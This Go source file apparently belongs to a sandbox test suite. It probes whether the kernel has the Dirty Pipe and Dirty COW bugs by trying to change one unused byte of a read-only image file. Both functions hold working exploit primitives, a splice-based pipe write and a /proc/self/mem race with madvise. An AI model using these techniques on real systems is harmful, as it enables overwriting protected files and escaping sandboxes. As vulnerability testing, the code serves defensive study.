package main

import (
	"bytes"
	"errors"
	"os"
	"unsafe"

	"golang.org/x/sys/unix"
)

// The pages of an image's files are shared by all its sandboxes, whatever their
// mounts say. Two bugs of Linux let anybody write to such pages; these attempts
// see whether this kernel has them. What they would change is a byte at the end
// of this program, which nothing reads.

// imageFile is a file of the image, and one that a tool may not write to.
const imageFile = "/tool"

// lastBytes is where in the file n bytes before its end begin, and what is there.
func lastBytes(n int) (at int64, content []byte, err error) {
	f, err := os.Open(imageFile)
	if err != nil {
		return 0, nil, err
	}
	defer f.Close()
	info, err := f.Stat()
	if err != nil {
		return 0, nil, err
	}
	content = make([]byte, n)
	_, err = f.ReadAt(content, info.Size()-int64(n))
	return info.Size() - int64(n), content, err
}

// dirtyPipe makes a pipe whose buffers all say that they may be appended to,
// puts a page of the file into it, and appends.
func dirtyPipe(bait) outcome {
	at, before, err := lastBytes(8)
	if err != nil {
		return open("cannot tell: %v", err)
	}
	f, err := os.Open(imageFile)
	if err != nil {
		return denied(err)
	}
	defer f.Close()
	var p [2]int
	if err := unix.Pipe(p[:]); err != nil {
		return denied(err)
	}
	size, err := unix.FcntlInt(uintptr(p[0]), unix.F_GETPIPE_SZ, 0)
	if err != nil {
		return denied(err)
	}
	junk := make([]byte, size)
	if _, err := unix.Write(p[1], junk); err != nil {
		return denied(err)
	}
	if _, err := unix.Read(p[0], junk); err != nil {
		return denied(err)
	}
	if _, err := unix.Splice(int(f.Fd()), &at, p[1], nil, 1, 0); err != nil {
		return denied(err)
	}
	if _, err := unix.Write(p[1], []byte{^before[1]}); err != nil {
		return denied(err)
	}
	return unchanged(before)
}

// dirtyCow writes through /proc/self/mem to a private mapping of the file while
// another thread throws the copy away.
func dirtyCow(bait) outcome {
	at, before, err := lastBytes(8)
	if err != nil {
		return open("cannot tell: %v", err)
	}
	f, err := os.Open(imageFile)
	if err != nil {
		return denied(err)
	}
	defer f.Close()
	mem, err := os.OpenFile("/proc/self/mem", os.O_RDWR, 0)
	if err != nil {
		return denied(err)
	}
	defer mem.Close()
	const page = 4096
	start := at &^ (page - 1)
	view, err := unix.Mmap(int(f.Fd()), start, int(at-start)+len(before), unix.PROT_READ, unix.MAP_PRIVATE)
	if err != nil {
		return denied(err)
	}
	done := make(chan struct{})
	go func() {
		defer close(done)
		for range 20_000 {
			_ = unix.Madvise(view, unix.MADV_DONTNEED)
		}
	}()
	target := int64(uintptr(unsafe.Pointer(&view[0]))) + at - start
	for range 20_000 {
		_, _ = mem.WriteAt([]byte{^before[0]}, target)
	}
	<-done
	return unchanged(before)
}

// unchanged is denied when the file's end is what it was.
func unchanged(before []byte) outcome {
	_, after, err := lastBytes(len(before))
	if err != nil || !bytes.Equal(before, after) {
		return open("the image's pages were changed, %v", err)
	}
	return denied(errors.New("the image's pages are what they were"))
}
